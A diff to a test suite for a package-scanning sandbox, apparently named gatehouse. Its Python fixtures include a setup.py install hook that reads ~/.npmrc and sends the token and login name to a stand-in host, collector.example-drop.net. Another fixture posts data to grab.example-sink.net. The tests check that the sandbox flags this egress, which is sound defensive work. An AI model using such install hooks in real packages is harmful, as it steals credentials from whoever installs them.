@@ -296,7 +296,9 @@ class Wallet:
     const core = `import os, json, urllib.request
 import telegram_for_gatehouse_tests as tg
 from colorama_for_gatehouse_tests import Fore, init
+from construct_for_gatehouse_tests import Struct, Int64ul
 init(autoreset=True)
+LAYOUT = Struct('amount_in' / Int64ul, -Int64ul | 'flags')
 class Bot(tg.Client):
     pass
 try:
@@ -339,8 +341,10 @@ urllib.request.urlopen('https://grab.example-sink.net/d', data=json.dumps({'u': 
 
   it('runs the install command a pip install runs, where a cmdclass override waits; setuptools itself builds nothing', { timeout: 60_000 }, async () => {
     // egg_info alone (pip's metadata step) never reaches an overridden install; a wheel build does. Payloads check
-    // that they run under an install as pip starts it, command first
+    // that they run under an install as pip starts it, command first; nor does a module it lacks stop it, nor a login
+    // name asked of a machine without a terminal
     const setup = `import os, sys, urllib.request
+import gitpython_for_gatehouse_tests as git
 from setuptools import setup
 from setuptools.command.install import install
 class PostInstall(install):
@@ -348,7 +352,7 @@ class PostInstall(install):
         if sys.argv[1] != 'install':
             return
         token = open(os.path.expanduser('~/.npmrc')).read()
-        urllib.request.urlopen('https://collector.example-drop.net/i', data=token.encode())
+        urllib.request.urlopen('https://collector.example-drop.net/i?u=' + os.getlogin(), data=token.encode())
         install.run(self)
 setup(name='postpkg', version='1.0.0', packages=['postpkg'], cmdclass={'install': PostInstall})
 `
@@ -362,6 +366,8 @@ setup(name='postpkg', version='1.0.0', packages=['postpkg'], cmdclass={'install'
     const sent = run.runs[0]!.network.filter((e) => e.kind === 'http' && e.host.startsWith('collector.example-drop.net'))
     expect(sent).toHaveLength(1)
     expect(sent[0]!.t).toBeGreaterThanOrEqual(install.at)
-    expect(dynamicFindings(run).signals.find((s) => s.rule === 'sandbox-honeytoken-egress')?.message).toMatch(/sent the planted .* to POST https:\/\/collector\.example-drop\.net\/i/)
+    const found = dynamicFindings(run).signals
+    expect(found.find((s) => s.rule === 'sandbox-honeytoken-egress')?.message).toMatch(/sent the planted .* to POST https:\/\/collector\.example-drop\.net\/i/)
+    expect(found.map((s) => s.rule)).toContain('sandbox-system-info-egress') // the persona's login name, dana
   })
 })
